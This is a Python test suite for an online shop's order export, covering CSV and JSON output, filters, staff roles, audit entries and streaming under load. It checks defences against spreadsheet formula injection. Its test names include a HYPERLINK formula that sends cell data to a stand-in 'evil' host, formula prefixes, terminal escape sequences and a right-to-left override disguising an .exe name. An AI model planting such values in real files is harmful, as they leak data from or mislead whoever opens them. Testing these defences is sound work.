"""Exports: every order, told truly, in a file that no spreadsheet runs, and that never pretends to be complete."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import secrets
import socket
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from django.contrib.auth.models import Group, User
from django.test import Client
from pymongo import WriteConcern

from conftest import BASE_DIR, client_of, eventually, in_process_client, settings_of
from flashdrop.spreadsheet import marked, unmarked
from orders import export_stream, ledger, ledger_desk
from orders.cancelling import cancel
from orders.desk import deeds, picking
from orders.documents import orders_collection, to_document
from orders.export_stream import ExportBroken, stream
from orders.exporting import COLUMNS, Export, Format
from orders.identity import shopper_id
from orders.ledger_desk import Event, OrderState, Wanted
from orders.order import Order
from orders.tests.test_ledger import order_of
from sales.desk import journal
from sales.models import Sale
from sales.tests.test_admin import ledger_away

NOW = datetime.now(UTC).replace(microsecond=0)
NAMES = [
    "=HYPERLINK(\"http://evil/?\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r\n=1+1",
    ' "=1+1',
    "'=1+1",
    "plain;=1+1",
    "plain, @x",
    "\uff1d1+1",
    "nul\x00\x1b[2Jbell\x07",
    "\u202egnp.exe",
    'comma, "quote"',
    "Zo\u00eb \u2713 \U0001f600",
    "two\nlines",
]  # fmt: skip
MANY = 50_000
MOMENT = timedelta(milliseconds=20)


async def placed(sale_id: str, names: list[str], step: timedelta = timedelta(seconds=1)) -> list[Order]:
    """An order of two units for each of `names`, one after the other within the last hour."""
    standard = order_of(sale_id, slots=(1, 2), quantity=2, price_minor=12950)
    orders = [
        standard._replace(
            id=f"{sale_id}{number:012x}",
            units=(2 * number + 1, 2 * number + 2),
            shopper_id=f"{sale_id}{number:07d}",
            shopper_name=name,
            reserved_at=NOW - timedelta(hours=1) + number * step,
        )
        for number, name in enumerate(names)
    ]
    # No test here is about how safely they are written, and a disk that is shared takes its time.
    quick = orders_collection().with_options(write_concern=WriteConcern(w=1, j=False))
    for start in range(0, len(orders), 5000):
        part = orders[start : start + 5000]
        await quick.insert_many([to_document(order, NOW - timedelta(minutes=30)) for order in part], ordered=False)
    await ledger.try_reading_and_writing()  # so that what reads what a majority has sees all of them
    return orders


def export_of(sale_id: str, form: Format, **wanted: Any) -> Export:
    return Export(form, Wanted(sale_id=sale_id, **wanted), sale_id, "lamp", "=Lamp", NOW)


class Notes(list[str]):
    """What the end of an export was noted as."""

    async def __call__(self, how: str) -> None:
        self.append(how)

    async def one(self) -> str:
        async def noted() -> bool:
            return bool(self)

        await eventually(noted)
        (how,) = self
        return how


async def written(export: Export) -> bytes:
    notes = Notes()
    body = b"".join([piece async for piece in stream(export, notes)])
    assert (await notes.one()).startswith("Export complete")
    return body


def table(body: bytes) -> list[dict[str, str]]:
    text = body.decode("utf-8-sig")
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.fixture
def sale_id(ledger_indexes: None) -> str:
    return secrets.token_hex(6)


async def test_a_table_has_every_order_with_all_that_is_known_of_it(sale_id: str) -> None:
    orders = await placed(sale_id, [f"shopper {number}" for number in range(230)])
    await cancel(orders[1].id, "mia", "sent back; =1+1")
    await ledger_desk.fulfil(orders[2].id, Event(NOW, "fulfilled", "tom", ""))
    rows = table(await written(export_of(sale_id, Format.CSV)))
    assert tuple(rows[0]) == COLUMNS
    assert [unmarked(row["order_id"]) for row in rows] == [order.id for order in orders]  # oldest first
    assert rows[0] == {
        "order_id": marked(orders[0].id),
        "sku": "lamp",
        "product": "'=Lamp",
        "state": "open",
        "units": "1 2",
        "quantity": "2",
        "price": "129.50",
        "total": "259.00",
        "currency": "EUR",
        "price_minor": "12950",
        "total_minor": "25900",
        "shopper_id": marked(orders[0].shopper_id),
        "shopper_name": "shopper 0",
        "reserved_at": f"{NOW - timedelta(hours=1):%Y-%m-%dT%H:%M:%S}.000Z",
        "confirmed_at": f"{NOW - timedelta(minutes=30):%Y-%m-%dT%H:%M:%S}.000Z",
        "fulfilled_at": "",
        "given_up_at": "",
        "history": "",
    }
    cancelled, fulfilled = rows[1], rows[2]
    assert (cancelled["state"], cancelled["units"]) == ("cancelled", "3 4")
    assert re.fullmatch(r"\S+Z cancelled by mia: sent back;' =1\+1", cancelled["history"]), cancelled
    assert cancelled["given_up_at"] and not cancelled["fulfilled_at"]
    assert (fulfilled["state"], fulfilled["fulfilled_at"]) == ("fulfilled", f"{NOW:%Y-%m-%dT%H:%M:%S}.000Z")
    assert "session" not in COLUMNS  # it opens the shopper's pages


async def test_numbers_are_numbers_and_texts_are_quoted(sale_id: str) -> None:
    await placed(sale_id, ["Ann"])
    line = (await written(export_of(sale_id, Format.CSV))).decode().split("\r\n")[1]
    assert ',"1 2",2,129.50,259.00,"EUR",12950,25900,"' in line


async def test_no_name_is_a_formula_to_any_spreadsheet(sale_id: str) -> None:
    await placed(sale_id, NAMES)
    body = await written(export_of(sale_id, Format.CSV))
    assert not re.search(rb"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]", body)
    assert body.count(b"\r\n") == body.count(b"\n") == body.count(b"\r") == len(NAMES) + 1
    rows = table(body)
    assert len(rows) == len(NAMES)
    for separator in ",;":  # as spreadsheets in other countries cut it
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=separator):
            for cell in row:
                seen = cell.strip(" \"'")
                assert seen[:1] not in tuple("=+-@\uff1d") or "'" in cell[: cell.index(seen[0])], (separator, cell)
    assert [row["shopper_name"] for row in rows][-3:] == ['comma, "quote"', "Zo\u00eb \u2713 \U0001f600", "two lines"]


def saved_again(rows: list[dict[str, str]], column: str, *, keeps_marks: bool) -> str:
    """A column as a spreadsheet in another country saves it: what is a number to it is written its own way."""
    cells = []
    for row in rows:
        cell = row[column]
        if re.fullmatch(r"\s*\d+(\.\d*)?(e\d+)?\s*", cell, re.IGNORECASE):
            cell = f"{float(cell):.6g}"
        elif cell.startswith("'") and not keeps_marks:
            cell = cell[1:]
        cells.append([cell])
    text = io.StringIO()
    csv.writer(text, delimiter=";", lineterminator="\r\n").writerows(cells)
    return text.getvalue()


TRICKY = [
    *(
        "=1+1",
        "+49 30 1234",
        "-x",
        "@ann",
        "\uff1dx",
        "000123",
        "1234567890123456789",
        "1e5",
        "123e4567",
        "MARCH1",
        "12:30",
    ),
    *(
        "Lee; =1",
        'Ann "the" Lee',
        '"quoted"',
        "'single",
        "'=1+2",
        "a, @b",
        "Zo\u00eb \u2713",
        "  two  spaces",
        "\u00a0=z",
    ),
]


@pytest.mark.parametrize("keeps_marks", [True, False], ids=["shows the mark", "takes it away"])
async def test_what_was_exported_can_be_pasted(sale_id: str, keeps_marks: bool) -> None:
    orders = await placed(sale_id, TRICKY)
    ids = {order.shopper_name: order.id for order in orders}
    named = {order.id: order._replace(shopper_id=shopper_id(order.shopper_name)) for order in orders}
    for order in named.values():
        await orders_collection().update_one({"_id": order.id}, {"$set": {"shopper": order.shopper_id}})
    rows = table(await written(export_of(sale_id, Format.CSV)))
    for column in ("order_id", "shopper_name"):
        lines = picking.lines_of(saved_again(rows, column, keeps_marks=keeps_marks))
        picked = await picking.by_lines(deeds.CANCEL, lines, sale_id, None)
        assert picked.left_out == [] and set(picked.order_ids) == set(ids.values()), column


async def test_json_has_every_text_as_it_was_given_and_says_how_many(sale_id: str) -> None:
    orders = await placed(sale_id, NAMES)
    await cancel(orders[0].id, "mia", "sent\nback")
    found = orjson.loads(await written(export_of(sale_id, Format.JSON)))
    assert (found["count"], found["is_complete"]) == (len(NAMES), True)
    assert [order["shopper"]["name"] for order in found["orders"]] == NAMES
    first = found["orders"][0]
    assert (first["price"], first["total_minor"], first["units"]) == ("129.50", 25900, [1, 2])
    assert first["events"][0]["reason"] == "sent\nback"
    lines = (await written(export_of(sale_id, Format.NDJSON))).splitlines()
    assert orjson.loads(lines[-1]) == {"count": len(NAMES), "is_complete": True}
    assert [orjson.loads(line) for line in lines[:-1]] == found["orders"]


@pytest.mark.parametrize("form", Format)
async def test_nothing_found_is_a_file_as_well(sale_id: str, form: Format) -> None:
    body = await written(export_of(sale_id, form))
    if form is Format.CSV:
        assert table(body) == []
    else:
        assert orjson.loads(body)["count"] == 0


async def test_filters_are_those_of_the_list(sale_id: str) -> None:
    orders = await placed(sale_id, [str(number) for number in range(9)])
    await cancel(orders[4].id, "mia", "")
    since = NOW - timedelta(hours=1)

    async def names(**wanted: Any) -> list[str]:
        rows = table(await written(export_of(sale_id, Format.CSV, **wanted)))
        return [unmarked(row["shopper_name"]) for row in rows]

    assert await names(state=OrderState.CANCELLED) == ["4"]
    assert await names(since=since + timedelta(seconds=2), until=since + timedelta(seconds=5)) == ["2", "3", "4"]


async def test_a_ledger_that_fails_midway_breaks_the_file_off(sale_id: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The cursor is killed in the real server between two batches."""
    await placed(sale_id, ["x"] * 3000, MOMENT)
    notes, taken, is_killed = Notes(), b"", False
    with pytest.raises(ExportBroken):
        async for piece in stream(export_of(sale_id, Format.JSON), notes):
            taken += piece
            if not is_killed:
                await eventually(kill_cursors)
                is_killed = True
    assert taken and b"is_complete" not in taken
    assert "broke off" in await notes.one()


async def open_cursors() -> list[int]:
    """Cursors over orders that the server keeps for somebody."""
    admin = orders_collection().database.client.admin
    found = await admin.aggregate([{"$currentOp": {"idleCursors": True}}, {"$match": {"type": "idleCursor"}}])
    return [one["cursor"]["cursorId"] async for one in found if one["ns"].endswith(".orders")]


async def kill_cursors() -> int:
    """As a restart of the primary or an impatient operator would. Returns how many there were."""
    ids = await open_cursors()
    if ids:
        await orders_collection().database.command("killCursors", "orders", cursors=ids)
    return len(ids)


async def test_who_leaves_stops_the_reading(sale_id: str) -> None:
    await placed(sale_id, ["x"] * 5000, MOMENT)
    notes = Notes()
    pieces = stream(export_of(sale_id, Format.CSV), notes)
    for _ in range(4):
        await anext(pieces)
    assert len(await open_cursors()) == 1
    await pieces.aclose()
    assert "the browser left" in await notes.one()

    async def closed() -> bool:
        return not await open_cursors() and not export_stream._readers

    await eventually(closed)


# Through the back office.


def account(role: str) -> User:
    user = User.objects.create(username=f"{role}-{secrets.token_hex(4)}", is_staff=True)
    user.groups.add(Group.objects.get(name=role))
    return user


def row_of(**changes: Any) -> Sale:
    settings = settings_of()
    fields = {name: getattr(settings, name) for name in settings.__dataclass_fields__}
    return Sale.objects.create(**fields | changes)


def session_of(user: User) -> dict[str, str]:
    browser = Client()
    browser.force_login(user)
    return {"Cookie": f"sessionid={browser.cookies['sessionid'].value}"}


def address(sale: Sale, query: str = "") -> str:
    return f"/admin/desk/sales/{sale.pk}/orders/export/{query}"


@pytest.mark.django_db(transaction=True)
class TestThroughTheDesk:
    async def get(self, user: User, address: str) -> httpx.Response:
        headers = await asyncio.to_thread(session_of, user)
        async with in_process_client() as client:
            return await client.get(address, headers=headers)

    async def made(self, role: str) -> tuple[Sale, User]:
        return await asyncio.to_thread(row_of), await asyncio.to_thread(account, role)

    async def test_a_merchandiser_downloads_and_it_is_written_down(self, ledger_indexes: None) -> None:
        sale, user = await self.made("merchandiser")
        await placed(sale.pk, ["Ann", "Bob"])
        found = await self.get(user, address(sale, "?format=csv&state=open"))
        assert (found.status_code, found.headers["content-type"]) == (200, "text/csv; charset=utf-8; header=present")
        assert re.fullmatch(
            rf'attachment; filename="orders-{sale.sku}-open-\d{{4}}-\d\d-\d\d-\d{{4}}Z\.csv"',
            found.headers["content-disposition"],
        )
        assert "no-store" in found.headers["cache-control"]
        assert [row["shopper_name"] for row in table(found.content)] == ["Ann", "Bob"]

        async def noted() -> list[Any]:
            entries = await asyncio.to_thread(journal.entries, sale)
            return entries if len(entries) == 2 else []

        last, first = await eventually(noted)
        assert (last.by, last.action) == (user.username, "Export complete: 2 orders")
        assert re.fullmatch(r"Began to export orders: CSV, open, until .* UTC", first.action)
        page = await self.get(user, address(sale))
        assert "Export complete: 2 orders" in page.text

    @pytest.mark.parametrize("role", ["viewer", "operator"])
    async def test_other_roles_are_refused_and_nothing_is_written_down(self, role: str) -> None:
        sale, user = await self.made(role)
        for query in ("", "?format=csv"):
            assert (await self.get(user, address(sale, query))).status_code == 403
        assert await asyncio.to_thread(journal.entries, sale) == []

    async def test_strangers_are_sent_to_sign_in(self) -> None:
        sale, _ = await self.made("merchandiser")
        async with in_process_client() as client:
            found = await client.get(address(sale, "?format=csv"))
        assert (found.status_code, found.headers["location"].split("?")[0]) == (302, "/admin/login/")

    @pytest.mark.parametrize(
        ("query", "told"),
        [
            ("?format=xlsx", "Select a valid choice"),
            ("?format=csv&state=paid", "Select a valid choice"),
            ("?format=csv&from=yesterday", "Enter a valid date/time"),
            ("?format=csv&from=2026-11-23T10:00&to=2026-11-23T09:00", "Choose a later one"),
        ],
    )
    async def test_what_can_not_be_asked_is_said(self, query: str, told: str) -> None:
        sale, user = await self.made("merchandiser")
        found = await self.get(user, address(sale, query))
        assert found.status_code == 400 and told in found.text

    async def test_without_the_ledger_there_is_a_page_and_no_half_a_file(self) -> None:
        sale, user = await self.made("merchandiser")
        with ledger_away():
            found = await self.get(user, address(sale, "?format=csv"))
        assert found.status_code == 503 and "Try again in a moment" in found.text
        assert "content-disposition" not in found.headers


# Through real processes.

IN_THE_SHOP = """
from django.contrib.auth.models import Group, User
from django.test import Client
from pymongo import WriteConcern
from django.utils import timezone
from sales.models import Sale
now = timezone.now()
Sale.objects.create(id="{id}", sku="sku-{id}", name="Lamp", price_minor=1, stock=100000, opens_at=now, closes_at=now)
user = User.objects.create(username="mia-{id}", is_staff=True)
user.groups.add(Group.objects.get(name="merchandiser"))
browser = Client()
browser.force_login(user)
print(browser.cookies["sessionid"].value)
"""


def sign_in_at_the_shop(sale_id: str) -> dict[str, str]:
    command = [sys.executable, str(BASE_DIR / "manage.py"), "shell", "-v", "0", "-c", IN_THE_SHOP.format(id=sale_id)]
    found = subprocess.run(command, check=True, capture_output=True, text=True, env=dict(os.environ))
    return {"Cookie": f"sessionid={found.stdout.split()[-1]}"}


def memory_of(shop: str) -> dict[int, float]:
    """Resident MB of each process of the shop's web tier."""
    port = shop.rpartition(":")[2].encode()
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if f"serve\0--port\0{port.decode()}".encode() in (folder / "cmdline").read_bytes():
                status = (folder / "status").read_text()
                found[int(folder.name)] = int(re.search(r"VmRSS:\s+(\d+)", status)[1]) / 1024  # type: ignore[index]
        except (OSError, TypeError):
            continue
    return found


async def test_fifty_thousand_orders_stream_through_a_real_server(shop: str, sale_id: str) -> None:
    headers, _ = await asyncio.gather(
        asyncio.to_thread(sign_in_at_the_shop, sale_id),
        placed(sale_id, [f"Shopper {one}" for one in range(MANY)], MOMENT),
    )
    path = f"/admin/desk/sales/{sale_id}/orders/export/?format="
    limits = httpx.Limits(max_connections=1)  # one connection, so one worker
    async with client_of(shop, headers=headers, timeout=30, limits=limits) as client:
        for _ in range(2):  # what a worker takes once stays
            assert (await client.get(path + "csv&to=2020-01-01T00:00")).status_code == 200
        before = memory_of(shop)
        assert len(before) == 3
        highest, first, rows, size, started = before, 0.0, 0, 0, time.perf_counter()
        async with client.stream("GET", path + "csv") as answer:
            assert answer.status_code == 200
            async for piece in answer.aiter_raw():
                if not size:
                    first = time.perf_counter() - started
                if size // 2_000_000 != (size + len(piece)) // 2_000_000:
                    highest = {pid: max(mb, memory_of(shop).get(pid, 0)) for pid, mb in highest.items()}
                size += len(piece)
                rows += piece.count(b"\r\n")
        last = time.perf_counter() - started
        grown = {pid: highest[pid] - mb for pid, mb in before.items()}
        assert rows == MANY + 1
        assert last > 3 * first
        assert size > 9_000_000
        assert max(grown.values()) < 8, grown

    # A slow reader holds the server back instead of filling its memory; one that leaves stops it. With a small buffer,
    # or the kernel would take most of the file for it.
    small = httpx.AsyncHTTPTransport(verify=False, socket_options=[(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)])
    async with (
        client_of(shop, headers=headers, timeout=30, transport=small) as client,
        client.stream("GET", path + "json") as answer,
    ):
        pieces = answer.aiter_raw()
        await anext(pieces)
        await eventually(open_cursors)
        await asyncio.sleep(0.5)
        await eventually(open_cursors, 3)  # still there, whenever it is looked for between two batches

    async def closed() -> bool:
        return not await open_cursors()

    await eventually(closed)


async def test_a_broken_export_is_a_failed_download(shop: str, sale_id: str) -> None:
    headers, _ = await asyncio.gather(
        asyncio.to_thread(sign_in_at_the_shop, sale_id), placed(sale_id, ["x"] * 20_000, MOMENT)
    )
    async with client_of(shop, headers=headers, timeout=30) as client:
        path = f"/admin/desk/sales/{sale_id}/orders/export/?format=csv"
        with pytest.raises(httpx.RemoteProtocolError):  # incomplete chunked read
            async with client.stream("GET", path) as answer:
                killed = False
                async for _ in answer.aiter_raw():
                    if not killed:
                        await eventually(kill_cursors)
                        killed = True
        # The worker serves on.
        assert (await client.get(path + "&to=2020-01-01T00:00")).status_code == 200
